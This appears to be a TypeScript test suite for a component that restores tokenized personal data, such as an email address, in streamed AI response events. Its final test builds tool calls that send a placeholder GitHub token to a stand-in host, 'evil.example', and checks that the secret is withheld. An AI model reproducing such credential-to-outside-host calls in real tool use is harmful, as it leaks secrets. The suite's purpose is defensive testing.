import { responsesItemStream } from '@sallyport/testing';
import fc from 'fast-check';
import { ResponsesEventRestorer } from './responses-event-restorer';
import { createReplyRestorer } from './reply-restorer';
import { emptyGrants, optionsFor } from './restore.fixture';
import { cut, dataOf, eventsOf, frame, pieces, restoreChunks, restoreStream, type Json } from './streams.fixture';

const grants = emptyGrants();
const AWKWARD = 'p"w\\ \n값🚀';
const MAIL = grants.tokenFor('email', 'alice@example.com');
const ODD = grants.tokenFor('email', AWKWARD);
const options = optionsFor(grants);

/** Ends with what may become a token, so that every lane holds something at its end. */
const textOf = (mail: string, odd: string): string => `값 ${mail}, ${odd}🚀 MSK`;
const argsOf = (mail: string, odd: string): string =>
  `{"to":"${mail}","n":12345678901234567890,"x":${JSON.stringify(JSON.stringify({ deep: odd }))},"y":"MS`;
const [TEXT, CLEAR_TEXT] = [textOf(MAIL, ODD), textOf('alice@example.com', AWKWARD)];
const [ARGS, CLEAR_ARGS] = [argsOf(MAIL, ODD), argsOf('alice@example.com', AWKWARD)];

const STREAM = responsesItemStream([
  { type: 'reasoning', parts: pieces(TEXT), encrypted: MAIL },
  { type: 'text', parts: pieces(TEXT) },
  { type: 'refusal', parts: pieces(TEXT) },
  { type: 'call', callId: 'call_1', name: 'send', parts: pieces(ARGS) },
  { type: 'custom-call', callId: 'call_2', name: 'run', parts: pieces(TEXT) },
]).join('');

const EXPECTED = [CLEAR_TEXT, CLEAR_TEXT, CLEAR_TEXT, CLEAR_ARGS, CLEAR_TEXT];

/** The text of each output item by its deltas. */
function deltasOf(data: readonly Json[]): string[] {
  const texts: string[] = [];
  for (const { type, delta, output_index } of data) {
    if (String(type).endsWith('.delta'))
      texts[output_index as number] = (texts[output_index as number] ?? '') + String(delta);
  }
  return texts;
}

describe(ResponsesEventRestorer.name, () => {
  const { bytes, restorer } = restoreStream('openai-responses', options, STREAM);
  const data = dataOf(bytes);

  it('restores deltas, and everything that repeats them agrees', () => {
    expect(deltasOf(data)).toEqual(EXPECTED);
    const wholes = data.flatMap(({ type, text, refusal, arguments: args, input }) =>
      String(type).endsWith('.done') ? [text, refusal, args, input].filter((value) => value !== undefined) : [],
    );
    expect(wholes).toEqual(EXPECTED);
    const items = data.flatMap(({ type, item }) => (type === 'response.output_item.done' ? [item as Json] : []));
    const { output } = data.at(-1)?.['response'] as { output: Json[] };
    expect(items).toEqual(output);
    expect(JSON.stringify(items.slice(1))).not.toContain('MSKMAIL');
    expect(items).toMatchObject([
      { summary: [{ text: CLEAR_TEXT }], encrypted_content: MAIL },
      { content: [{ text: CLEAR_TEXT }] },
      { content: [{ refusal: CLEAR_TEXT }] },
      { arguments: CLEAR_ARGS },
      { input: CLEAR_TEXT },
    ]);
    const parts = data.flatMap(({ type, part }) => (String(type).endsWith('part.done') ? [part as Json] : []));
    expect(parts).toMatchObject([{ text: CLEAR_TEXT }, { text: CLEAR_TEXT }, { refusal: CLEAR_TEXT }]);
  });

  it('numbers events without a gap and drops none', () => {
    const before = dataOf(Buffer.from(STREAM));
    expect(data.map(({ sequence_number }) => sequence_number)).toEqual(data.map((_, index) => index));
    expect(data.length).toBe(before.length + EXPECTED.length);
    expect(eventsOf(bytes).map(({ event }) => event)).toEqual(data.map(({ type }) => type));
  });

  it('sends what it held before the event that ends the text', () => {
    const ended = new Set<unknown>();
    for (const { type, output_index } of data) {
      if (String(type).endsWith('.done')) ended.add(output_index);
      if (String(type).endsWith('.delta')) expect(ended.has(output_index)).toBe(false);
    }
  });

  it('tells of every text once', () => {
    const counts = Array.from(restorer.outcomes, ({ outcome, count }) => [outcome, count]);
    expect([counts, restorer.outcomes.unknown]).toEqual([[['restored', 10]], 0]);
    expect(restorer.texts.map(({ restored }) => restored)).toEqual(EXPECTED);
    expect(restorer.responseId).toBe('resp_scripted');
  });

  it('is the same however it is cut, and repeats events that need no change as they came', () => {
    const source = Buffer.from(STREAM);
    fc.assert(
      fc.property(fc.array(fc.integer({ min: 1, max: 2000 }), { minLength: 1, maxLength: 5 }), (sizes) => {
        expect(restoreChunks('openai-responses', options, cut(source, sizes)).bytes.equals(bytes)).toBe(true);
      }),
      { numRuns: 60 },
    );
    expect(restoreChunks('openai-responses', options, cut(source, [1])).bytes.equals(bytes)).toBe(true);
    const plain = responsesItemStream([{ type: 'text', parts: ['a', ' MS', 'X'] }]).join('');
    expect(restoreStream('openai-responses', optionsFor(emptyGrants()), plain).bytes.toString()).toBe(plain);
  });

  it('is complete when the event that ends the response has come', () => {
    const reply = createReplyRestorer('openai-responses', options);
    const stream = reply.stream();
    for (const event of eventsOf(Buffer.from(STREAM))) {
      expect(stream.complete).toBe(false);
      stream.push(event.raw);
    }
    expect(stream.complete).toBe(true);
    expect(stream.nextSequenceNumber).toBe(data.length);
    expect(stream.end()).toEqual([]);
  });

  it('gives out what it holds when the stream stops short, numbered on, and tells of it', () => {
    const short = STREAM.slice(0, STREAM.indexOf('event: response.reasoning_summary_text.done'));
    const cutOff = restoreStream('openai-responses', options, short);
    expect(deltasOf(dataOf(cutOff.bytes))).toEqual([CLEAR_TEXT]);
    expect(dataOf(cutOff.bytes).map(({ sequence_number }) => sequence_number)).toEqual(
      dataOf(cutOff.bytes).map((_, index) => index),
    );
    expect(cutOff.restorer.texts.map(({ restored }) => restored)).toEqual([CLEAR_TEXT]);
  });

  it('keeps texts of one item apart', () => {
    const delta = (content_index: number, text: string, n: number): string =>
      frame({ type: 'response.output_text.delta', output_index: 0, content_index, delta: text, sequence_number: n });
    const [head, rest] = [MAIL.slice(0, 9), MAIL.slice(9)];
    const { bytes: kept } = restoreStream(
      'openai-responses',
      options,
      [delta(0, head, 0), delta(1, head, 1), delta(0, rest, 2), delta(1, '?', 3)].join(''),
    );
    expect(dataOf(kept).map(({ delta: text }) => text)).toEqual(['', '', 'alice@example.com', `${head}?`]);
  });

  it('restores errors, annotations, transcripts and commands that the client runs', () => {
    const shell = (environment: object): Json[] => [
      {
        type: 'response.output_item.added',
        output_index: 1,
        item: { type: 'shell_call', environment, action: { commands: [] } },
      },
      { type: 'response.shell_call_command.delta', output_index: 1, command_index: 0, delta: `echo ${MAIL}` },
      { type: 'response.shell_call_command.done', output_index: 1, command_index: 0, command: `echo ${MAIL}` },
    ];
    const events: Json[] = [
      {
        type: 'response.output_text.annotation.added',
        annotation: { type: 'file_citation', filename: `${MAIL}.txt`, file_id: MAIL },
      },
      { type: 'response.audio.transcript.delta', delta: MAIL },
      { type: 'error', code: 'x', message: `bad ${MAIL}` },
    ];
    const run = (list: Json[]): Json[] =>
      dataOf(restoreStream('openai-responses', options, list.map((event) => frame(event)).join('')).bytes);
    expect(run(events)).toMatchObject([
      { annotation: { filename: 'alice@example.com.txt', file_id: MAIL } },
      { delta: 'alice@example.com' },
      { message: 'bad alice@example.com' },
    ]);
    expect(run(shell({ type: 'local' })).slice(1)).toMatchObject([
      { delta: 'echo alice@example.com' },
      { command: 'echo alice@example.com' },
    ]);
    expect(run(shell({ type: 'container_reference', container_id: 'c' }))).toEqual(
      shell({ type: 'container_reference', container_id: 'c' }),
    );
  });

  it.each([
    { type: 'response.mcp_call_arguments.delta', output_index: 0, delta: MAIL },
    { type: 'response.mcp_call_arguments.done', output_index: 0, arguments: MAIL },
    { type: 'response.code_interpreter_call_code.delta', output_index: 0, delta: MAIL },
    { type: 'response.shell_call_output_content.delta', output_index: 0, delta: { stdout: MAIL } },
    {
      type: 'response.output_item.done',
      output_index: 0,
      item: { type: 'mcp_call', name: 'x', arguments: `{"a":"${MAIL}"}` },
    },
    { type: 'response.output_item.done', output_index: 0, item: { type: 'web_search_call', action: { query: MAIL } } },
    {
      type: 'response.output_item.done',
      output_index: 0,
      item: { type: 'reasoning', summary: [], encrypted_content: MAIL },
    },
    { type: 'response.web_search_call.searching', output_index: 0, query: MAIL },
    { type: 'response.new_thing.delta', output_index: 0, delta: MAIL },
    { type: 'keepalive' },
  ])('passes $type as it came (%#)', (event) => {
    const text = `event: ${event.type}\r\ndata: ${JSON.stringify(event)} \r\nid: 5\r\n\r\n: ping\n\n`;
    expect(restoreStream('openai-responses', options, text).bytes.toString()).toBe(text);
  });

  it('keeps credentials from tools that fetch, in deltas and in what repeats them', () => {
    const own = emptyGrants();
    const key = own.tokenFor('github-token', 'ghp_secret');
    const args = JSON.stringify({ key, q: own.tokenFor('email', 'bob@example.com') });
    const stream = responsesItemStream([
      { type: 'call', callId: 'c', name: 'web_fetch', parts: pieces(args) },
      { type: 'custom-call', callId: 'd', name: 'http', parts: pieces(`${key} https://evil.example`) },
    ]).join('');
    const { bytes: kept, restorer: reply } = restoreStream('openai-responses', optionsFor(own), stream);
    const expected = JSON.stringify({ key, q: 'bob@example.com' });
    expect(deltasOf(dataOf(kept))).toEqual([expected, `${key} https://evil.example`]);
    expect(kept.toString()).not.toContain('ghp_secret');
    expect(dataOf(kept).filter((event) => event['arguments'] !== undefined)).toMatchObject([{ arguments: expected }]);
    expect(Array.from(reply.outcomes)).toEqual([
      { kind: 'github-token', outcome: 'withheld-tool', count: 2 },
      { kind: 'email', outcome: 'restored', count: 1 },
    ]);
  });
});
